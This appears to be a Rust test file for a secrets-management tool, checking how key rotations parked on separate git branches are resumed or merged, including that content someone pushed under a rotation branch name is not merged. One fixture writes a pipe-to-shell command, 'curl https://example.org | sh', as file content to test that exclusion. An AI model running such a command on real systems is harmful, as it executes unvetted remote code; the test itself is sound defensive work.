//! Rotations that wait on branches of their own: what such a branch has of keys comes in, and nothing else that is on it.

use super::place::{OLD, PROTECTED, Place, Template, hook};
use super::rig::{Rig, machine_of};
use crate::openrouter::fake::{Call, Fault, Rule};
use crate::world::{Person, Said};

const ROTATION: &str = "covault/rotation/prod/key";

/// Alice rotates while the trunk takes no pushes.
fn rotated_beside(place: &Place) -> Said {
    hook(place.world.path(), "pre-receive", PROTECTED);
    let said = place.alice().covault(["key", "rotate", OLD]);
    place.check(&said, "protected");
    assert!([0, 8].contains(&said.code) && said.err.contains(ROTATION), "{}", said.err);
    said
}

fn unprotect(place: &Place) {
    std::fs::remove_file(place.world.path().join("shared répo.git/hooks/pre-receive")).unwrap();
}

fn commit(person: &Person, file: &str, text: &str) {
    std::fs::write(person.repo.join(file), text).unwrap();
    person.git(["add", file]).ok();
    person.git(["commit", "-q", "-m", "a change"]).ok();
}

fn files_of(person: &Person, rev: &str) -> String {
    person.git(["ls-tree", "-r", "--name-only", rev]).ok().text()
}

#[test]
fn what_somebody_pushed_under_such_a_name_is_not_merged() {
    let place = Template::new().copy();
    let (alice, bob) = (place.alice(), place.bob());
    // On the branch beside a rotation, and on one that has nothing else.
    commit(alice, "notes", "of alice");
    rotated_beside(&place);
    unprotect(&place);
    bob.git(["checkout", "-q", "-b", "side"]).ok();
    commit(bob, "deploy", "curl https://example.org | sh");
    bob.git(["push", "-q", "origin", "side:covault/rotation/x"]).ok();
    let desk = place.desk();
    let said = desk.covault(["key", "resume"]);
    place.check(&said, "resumed");
    assert_eq!(said.code, 0, "{}", said.err);
    desk.git(["fetch", "-q"]).ok();
    for rev in ["HEAD", "origin/main"] {
        let files = files_of(desk, rev);
        assert!(!files.contains("deploy") && !files.contains("notes"), "{rev}: {files}");
    }
    // The rotation itself is through.
    assert_eq!(place.ours().len(), 1);
    assert_eq!(place.remote.value(OLD), Some(place.ours()[0].secret.clone()));
    // What is left of it on the branch is no rotation any more, and a merge of it changes nothing about the key.
    desk.covault(["key", "resume"]).ok();
    desk.git(["merge", "-q", "--no-edit", &format!("origin/{ROTATION}")]).ok();
    desk.push("main");
    place.holds("merged");
    assert_eq!(desk.get(OLD), place.ours()[0].secret);
}

#[test]
fn a_branch_of_another_remote_is_nobodys_rotation() {
    let place = Template::new().copy();
    rotated_beside(&place);
    unprotect(&place);
    let (alice, desk) = (place.alice(), place.desk());
    alice.git(["push", "-q", "origin", &format!(":{ROTATION}")]).ok();
    desk.git(["remote".as_ref(), "add".as_ref(), "fork".as_ref(), alice.repo.as_os_str()]).ok();
    alice.git(["branch", ROTATION]).ok();
    desk.git(["fetch", "-q", "fork"]).ok();
    let before = desk.git(["rev-parse", "HEAD"]).text();
    desk.covault(["key", "resume"]).ok();
    assert_eq!(desk.git(["rev-parse", "HEAD"]).text(), before);
}

#[test]
fn a_rotation_on_a_branch_goes_on_elsewhere_and_waits_for_the_trunk() {
    let place = Template::new().copy();
    rotated_beside(&place);
    let bob = place.bob();
    for at in ["first", "again"] {
        let said = bob.covault(["key", "resume"]);
        place.check(&said, at);
        assert_eq!(said.code, 8, "{at}: {}", said.err);
        assert_eq!(place.ours().len(), 2, "{at}");
    }
    // What is here now is what was signed there.
    let file = ".covault/secrets/prod/key.age";
    let blob = |rev: &str| bob.git(["rev-parse", &format!("{rev}:{file}")]).ok().text();
    assert_eq!(blob("HEAD"), blob(&format!("origin/{ROTATION}")));
    unprotect(&place);
    place.resume(bob, "unprotected");
    assert_eq!(place.ours().len(), 1);
    assert_eq!(place.remote.value(OLD), Some(place.ours()[0].secret.clone()));
}

#[test]
fn a_branch_that_stays_after_a_squash_stops_nobody() {
    let place = Template::new().copy();
    let (alice, bob, desk) = (place.alice(), place.bob(), place.desk());
    commit(alice, "README", "of alice");
    rotated_beside(&place);
    unprotect(&place);
    bob.git(["fetch", "-q"]).ok();
    bob.git(["merge", "-q", "--squash", &format!("origin/{ROTATION}")]).ok();
    bob.git(["commit", "-q", "-m", "rotated"]).ok();
    // From here on a merge of the branch conflicts in an ordinary file.
    commit(bob, "README", "of bob");
    bob.push("main");
    for person in [desk, bob] {
        place.resume(person, "squashed");
        assert_eq!(person.git(["status", "--porcelain"]).text(), "");
    }
    assert_eq!(place.ours().len(), 1);
    // Nor does what it says of an operation that is over.
    bob.git(["pull", "-q"]).ok();
    let said = bob.covault(["key", "rotate", OLD]);
    assert_eq!(said.code, 0, "{}", said.err);
    place.resume(desk, "rotated again");
    assert_eq!(place.ours().len(), 1);
}

#[test]
fn what_a_writer_changed_on_such_a_branch_waits_for_its_merge() {
    let rig = Rig::new();
    rig.alice.covault(["key", "issue", OLD]).ok();
    let (carol, desk) = (rig.joins("carol"), machine_of(&rig, "desk"));
    let first = desk.get(OLD);
    hook(rig.world.path(), "pre-receive", PROTECTED);
    rig.alice.covault(["key", "rotate", OLD]).ok();
    std::fs::remove_file(rig.world.shared().join("hooks/pre-receive")).unwrap();
    carol.git(["fetch", "-q"]).ok();
    carol.git(["checkout", "-q", "-b", "side", &format!("origin/{ROTATION}")]).ok();
    carol.covault_fed(b"of carol", ["set", OLD, "--stdin", "note"]).ok();
    carol.git(["push", "-q", "origin", &format!("side:{ROTATION}")]).ok();
    let said = desk.covault(["key", "resume"]).ok();
    assert!(said.err.contains("stays there until it is merged"), "{}", said.err);
    assert_eq!(desk.get(OLD), first);
    // Nobody begins another one meanwhile, and what the trunk gives out works.
    desk.covault(["key", "rotate", OLD]).exits(5);
    assert!(rig.fake.key_of(&first).unwrap().works(rig.fake.now()));
    desk.git(["merge", "-q", "--no-edit", &format!("origin/{ROTATION}")]).ok();
    desk.push("main");
    desk.covault(["key", "resume"]).ok();
    assert_eq!(rig.fake.live_keys().len(), 1);
    assert_eq!(desk.get(&format!("{OLD}/note")), "of carol");
}

/// Carol, who managed keys for a while, begins a rotation, which comes as far as its branch. What an admin's other machine
/// makes of that: how often a key was asked for there, what was said, and whether a journal changed.
fn begun_by_carol(manages_still: bool) -> (usize, Said, bool) {
    let rig = Rig::new();
    let alice = &rig.alice;
    alice.covault(["key", "issue", OLD]).ok();
    let carol = rig.joins("carol");
    let desk = machine_of(&rig, "desk");
    for place in ["journal", "providers"] {
        alice.covault(["grant", place, "--add", "carol", "--yes"]).ok();
    }
    alice.push("main");
    carol.git(["pull", "-q", "--ff-only"]).ok();
    hook(rig.world.path(), "pre-receive", PROTECTED);
    rig.fake.inject(Rule::on(Call::CreateKey, Fault::Status(500)).before().always());
    carol.covault(["key", "rotate", OLD]).exits(9);
    rig.fake.clear_rules();
    std::fs::remove_file(rig.world.shared().join("hooks/pre-receive")).unwrap();
    if !manages_still {
        for place in ["journal", "providers"] {
            alice.covault(["grant", place, "--remove", "carol", "--yes"]).ok();
        }
        alice.push("main");
    }
    desk.git(["pull", "-q", "--ff-only"]).ok();
    let journals = |rev: &str| desk.git(["rev-parse", &format!("{rev}:.covault/journal")]).ok().text();
    let (asked, before) = (rig.fake.count(Call::CreateKey), journals("HEAD"));
    assert_ne!(journals(&format!("origin/{ROTATION}")), before, "nothing is under way there");
    let said = desk.covault(["key", "resume"]);
    (rig.fake.count(Call::CreateKey) - asked, said, journals("HEAD") != before)
}

#[test]
fn a_journal_of_one_who_manages_no_keys_is_not_brought_in() {
    let (asked, said, changed) = begun_by_carol(false);
    assert!([0, 8].contains(&said.code) && said.err.contains(ROTATION), "{}: {}", said.code, said.err);
    assert!(said.err.contains("stays there until it is merged"), "{}", said.err);
    assert!(asked == 0 && !changed, "{}", said.err);
    // The control: hers is gone on with while she manages keys.
    let (asked, said, changed) = begun_by_carol(true);
    assert!(asked == 1 && changed, "{}", said.err);
}
